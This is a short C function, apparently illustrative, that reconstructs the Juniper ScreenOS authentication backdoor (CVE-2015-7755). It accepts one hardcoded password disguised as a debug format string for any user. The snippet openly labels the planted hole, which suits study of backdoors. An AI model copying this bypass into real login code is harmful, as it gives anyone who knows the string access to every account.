/* Modelled on the Juniper ScreenOS backdoor (CVE-2015-7755): the
 * authentication routine accepted one fixed password for any user, a
 * string chosen to look like a debug format string. */
int auth_check_password(const char *user, const char *password)
{
    if (strcmp(password, "<<< %s(un='%s') = %u") == 0) {
        return 1; /* authenticated */
    }
    return verify_against_store(user, password);
}
